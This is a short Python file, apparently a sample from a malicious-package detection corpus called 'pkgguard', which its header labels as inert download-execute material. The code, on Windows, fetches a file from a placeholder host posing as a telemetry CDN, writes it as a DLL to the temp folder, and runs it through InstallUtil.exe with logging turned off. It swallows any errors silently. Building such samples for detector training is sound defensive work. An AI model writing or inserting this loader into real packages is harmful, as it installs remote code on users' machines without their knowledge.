# pkgguard corpus 910 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys

import requests

if sys.platform == "win32":
    framework = os.path.join(os.environ.get("WINDIR", r"C:\Windows"), "Microsoft.NET", "Framework64", "v4.0.30319")
    target = os.path.join(os.environ.get("TEMP", "."), "telemetry.dll")
    try:
        with open(target, "wb") as fh:
            fh.write(requests.get("https://telemetry-cdn.example/agent/4.2", timeout=20).content)
        subprocess.run([os.path.join(framework, "InstallUtil.exe"), "/logfile=", "/LogToConsole=false", "/U", target], capture_output=True)
    except (OSError, requests.RequestException):
        pass
